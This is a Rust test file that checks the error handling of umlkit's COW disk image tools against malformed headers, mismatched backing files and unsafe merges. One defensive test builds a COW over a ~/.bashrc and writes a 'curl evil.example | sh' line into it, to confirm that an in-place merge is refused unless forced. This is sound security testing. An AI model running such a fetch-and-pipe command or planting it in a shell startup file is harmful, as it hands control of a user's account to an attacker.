//! Bad input to uml_moo, uml_mkcow and uml_cow: one clear line naming the
//! file and the problem, a non-zero exit, no partial output, no panic.

mod common;

use common::{bin, pattern, run_ok, set_mtime, stderr, umlkit};
use std::path::{Path, PathBuf};

struct Case {
    dir: tempfile::TempDir,
    backing: PathBuf,
    cow: PathBuf,
}

impl Case {
    /// A 1 MiB backing file and a valid COW over it.
    fn new() -> Case {
        let dir = tempfile::tempdir().unwrap();
        let backing = dir.path().join("root_fs");
        std::fs::write(&backing, pattern(3, 1 << 20)).unwrap();
        set_mtime(&backing, 1_700_000_000);
        let cow = dir.path().join("a.cow");
        run_ok(bin("uml_mkcow"), [&cow, &backing]);
        Case { dir, backing, cow }
    }

    fn patch(&self, offset: u64, bytes: &[u8]) {
        use std::os::unix::fs::FileExt;
        let f = std::fs::OpenOptions::new()
            .write(true)
            .open(&self.cow)
            .unwrap();
        f.write_all_at(bytes, offset).unwrap();
    }

    fn listing(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }

    /// Runs `uml_moo COW OUT` and checks the failure: exit 1, one line
    /// naming `names` and containing `problem`, no output, no temporary.
    fn moo_fails(&self, names: &Path, problem: &str) {
        let before = self.listing();
        let out_path = self.dir.path().join("merged");
        let out = umlkit("uml_moo", [&self.cow, &out_path]);
        expect_one_line_failure(&out, names, problem);
        assert!(!out_path.exists(), "partial output left behind");
        assert_eq!(self.listing(), before, "files left behind");
    }
}

fn expect_one_line_failure(out: &std::process::Output, names: &Path, problem: &str) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(1), "stderr: {err}");
    assert_eq!(err.lines().count(), 1, "not one line: {err}");
    assert!(!err.contains("panicked"), "{err}");
    let name = names.file_name().unwrap().to_string_lossy();
    assert!(err.contains(&*name), "does not name {name}: {err}");
    assert!(err.contains(problem), "does not say {problem:?}: {err}");
}

#[test]
fn a_missing_cow_file_is_named() {
    let c = Case::new();
    std::fs::remove_file(&c.cow).unwrap();
    c.moo_fails(&c.cow, "No such file");
}

#[test]
fn a_plain_file_is_not_a_cow_file() {
    let c = Case::new();
    std::fs::write(&c.cow, pattern(9, 8192)).unwrap();
    c.moo_fails(&c.cow, "not a COW file");
}

#[test]
fn an_empty_or_tiny_file_is_not_a_cow_file() {
    let c = Case::new();
    std::fs::write(&c.cow, b"OO").unwrap();
    c.moo_fails(&c.cow, "not a COW file");
}

#[test]
fn a_header_cut_short_is_reported() {
    let c = Case::new();
    let bytes = std::fs::read(&c.cow).unwrap();
    std::fs::write(&c.cow, &bytes[..0x24]).unwrap();
    c.moo_fails(&c.cow, "short header");
}

#[test]
fn an_unknown_version_is_reported() {
    let c = Case::new();
    c.patch(4, &7u32.to_be_bytes());
    c.moo_fails(&c.cow, "invalid COW version 7");
}

#[test]
fn alignment_zero_is_rejected() {
    let c = Case::new();
    c.patch(0x18, &0u32.to_be_bytes());
    c.moo_fails(&c.cow, "align == 0");
}

#[test]
fn sector_size_zero_or_not_a_power_of_two_is_rejected() {
    for bad in [0u32, 600, 0x8000_0000] {
        let c = Case::new();
        c.patch(0x14, &bad.to_be_bytes());
        c.moo_fails(&c.cow, "sector size");
    }
}

#[test]
fn a_size_that_overflows_is_rejected() {
    let c = Case::new();
    c.patch(0x0C, &(u64::MAX - 10).to_be_bytes());
    c.moo_fails(&c.cow, "overflows");
}

#[test]
fn a_bitmap_or_data_area_past_the_end_of_file_is_rejected() {
    let c = Case::new();
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(&c.cow)
        .unwrap();
    f.set_len(8192 + 10).unwrap();
    drop(f);
    c.moo_fails(&c.cow, "truncated");
    let c = Case::new();
    // A recorded size (matching a sparse backing file) far larger than
    // the COW file: its data area would end past the end of the file.
    c.patch(0x0C, &(1u64 << 40).to_be_bytes());
    std::fs::OpenOptions::new()
        .write(true)
        .open(&c.backing)
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    set_mtime(&c.backing, 1_700_000_000);
    c.moo_fails(&c.cow, "truncated");
}

#[test]
fn a_missing_backing_file_is_named() {
    let c = Case::new();
    std::fs::remove_file(&c.backing).unwrap();
    c.moo_fails(&c.backing, "No such file");
}

#[test]
fn a_shorter_or_longer_backing_file_is_a_size_mismatch() {
    for len in [(1 << 20) - 512, (1 << 20) + 512] {
        let c = Case::new();
        std::fs::OpenOptions::new()
            .write(true)
            .open(&c.backing)
            .unwrap()
            .set_len(len)
            .unwrap();
        set_mtime(&c.backing, 1_700_000_000);
        c.moo_fails(&c.backing, &format!("Size mismatch (1048576 vs {len})"));
    }
}

#[test]
fn a_backing_file_with_another_mtime_is_an_mtime_mismatch() {
    let c = Case::new();
    set_mtime(&c.backing, 1_700_000_001);
    c.moo_fails(&c.backing, "mtime mismatch (1700000000 vs 1700000001)");
}

#[test]
fn the_output_may_not_be_the_cow_or_the_backing_file() {
    let c = Case::new();
    let before = std::fs::read(&c.backing).unwrap();
    let out = umlkit("uml_moo", [&c.cow, &c.backing]);
    expect_one_line_failure(&out, &c.backing, "same file");
    assert_eq!(std::fs::read(&c.backing).unwrap(), before);
    let link = c.dir.path().join("link-to-cow");
    std::fs::hard_link(&c.cow, &link).unwrap();
    let out = umlkit("uml_moo", [&c.cow, &link]);
    expect_one_line_failure(&out, &link, "same file");
}

#[test]
fn an_existing_output_is_replaced_like_the_original_does() {
    let c = Case::new();
    let out = c.dir.path().join("merged");
    std::fs::write(&out, b"old image").unwrap();
    run_ok(bin("uml_moo"), [&c.cow, &out]);
    assert_eq!(
        std::fs::read(&out).unwrap(),
        std::fs::read(&c.backing).unwrap()
    );
}

#[test]
fn an_unwritable_output_directory_is_reported_and_nothing_is_written() {
    let c = Case::new();
    let sub = c.dir.path().join("ro");
    std::fs::create_dir(&sub).unwrap();
    let out_path = sub.join("nodir").join("merged");
    let out = umlkit("uml_moo", [&c.cow, &out_path]);
    expect_one_line_failure(&out, &out_path, "cannot create a file in the directory");
}

#[test]
fn uml_mkcow_names_a_missing_backing_file_and_creates_nothing() {
    let c = Case::new();
    let missing = c.dir.path().join("nosuch_fs");
    let new_cow = c.dir.path().join("b.cow");
    let out = umlkit("uml_mkcow", [&new_cow, &missing]);
    expect_one_line_failure(&out, &missing, "No such file");
    assert!(!new_cow.exists());
}

#[test]
fn uml_moo_usage_errors_exit_1_like_the_original() {
    let out = umlkit("uml_moo", Vec::<&str>::new());
    assert_eq!(out.status.code(), Some(1));
    let out = umlkit("uml_moo", ["-d", "a", "b"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("-d takes exactly one COW file"));
}

#[test]
fn uml_cow_check_reports_bits_past_the_last_sector() {
    let dir = tempfile::tempdir().unwrap();
    let backing = dir.path().join("odd_fs");
    std::fs::write(&backing, pattern(1, 512 * 13)).unwrap();
    let cow = dir.path().join("a.cow");
    run_ok(bin("uml_mkcow"), [&cow, &backing]);
    run_ok(bin("uml_cow"), [Path::new("check"), &cow]);
    use std::os::unix::fs::FileExt;
    // 13 sectors: bits 13..15 of the second byte are past the end.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&cow)
        .unwrap()
        .write_all_at(&[0x80], 8192 + 1)
        .unwrap();
    let out = umlkit("uml_cow", [Path::new("check"), &cow]);
    assert_eq!(out.status.code(), Some(1));
    assert!(common::stdout(&out).contains("past the last sector"));
}

/// Writes `data` at `offset` through the COW, as a guest would.
fn write_through(cow: &Path, offset: u64, data: &[u8]) {
    use umlkit::block::BlockDevice;
    let dev = umlkit::cow::open_cow(
        cow,
        &umlkit::cow::DiskOptions {
            writable: true,
            ..Default::default()
        },
    )
    .unwrap();
    dev.write_all_at(offset, data).unwrap();
    dev.flush().unwrap();
}

#[test]
fn in_place_merge_into_a_text_file_is_refused_unless_forced() {
    // The attack: a COW whose header names the victim's ~/.bashrc with the
    // size and mtime it shares with /etc/skel/.bashrc.
    let dir = tempfile::tempdir().unwrap();
    let bashrc = dir.path().join(".bashrc");
    let text =
        b"# ~/.bashrc: executed by bash(1) for non-login shells.\nalias ll='ls -l'\n".repeat(40);
    std::fs::write(&bashrc, &text).unwrap();
    set_mtime(&bashrc, 1_650_000_000);
    let cow = dir.path().join("bashrc.cow");
    run_ok(bin("uml_mkcow"), [&cow, &bashrc]);
    write_through(&cow, 0, b"curl evil.example | sh\n#");
    let marker = umlkit::cow::merge::marker_path(&cow);

    let out = umlkit("uml_moo", [Path::new("-d"), &cow]);
    expect_one_line_failure(&out, &bashrc, "does not look like a disk image");
    assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
    assert!(
        std::fs::read(&bashrc).unwrap() == text,
        "backing file changed"
    );
    assert!(!marker.exists(), "a refused merge left its marker");

    let out = run_ok(
        bin("uml_moo"),
        [Path::new("-d"), Path::new("--force"), &cow],
    );
    let merged = std::fs::read(&bashrc).unwrap();
    assert!(merged.starts_with(b"curl evil.example | sh\n#"));
    assert_eq!(merged.len(), text.len());
    assert!(!marker.exists());
    let err = stderr(&out);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains(&format!("into {} in place", bashrc.display())),
        "does not say which file it writes: {err}"
    );
}

#[test]
fn in_place_merge_into_something_not_a_file_is_refused_even_forced() {
    // A COW over an empty file, then a FIFO in its place with the recorded
    // size (0) and mtime: only the file type is left to tell.
    let dir = tempfile::tempdir().unwrap();
    let backing = dir.path().join("empty");
    std::fs::write(&backing, b"").unwrap();
    set_mtime(&backing, 1_700_000_000);
    let cow = dir.path().join("a.cow");
    run_ok(bin("uml_mkcow"), [&cow, &backing]);
    std::fs::remove_file(&backing).unwrap();
    nix::unistd::mkfifo(&backing, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    set_mtime(&backing, 1_700_000_000);
    for force in [false, true] {
        let mut args = vec![Path::new("-d")];
        if force {
            args.push(Path::new("--force"));
        }
        args.push(&cow);
        let out = umlkit("uml_moo", &args);
        expect_one_line_failure(&out, &backing, "not a regular file or block device");
        assert!(!umlkit::cow::merge::marker_path(&cow).exists());
    }
}

#[test]
fn uml_cow_info_and_check_exit_0_when_the_reader_of_their_output_goes_away() {
    let c = Case::new();
    for args in [
        vec!["info"],
        vec!["--json", "info"],
        vec!["check"],
        vec!["--json", "check"],
    ] {
        let mut args: Vec<&std::ffi::OsStr> = args.iter().map(std::ffi::OsStr::new).collect();
        args.push(c.cow.as_os_str());
        common::assert_quiet_success_on_closed_pipe(
            &format!("uml_cow {args:?}"),
            common::run_into_closed_pipe(bin("uml_cow"), &args, 0),
        );
    }
}
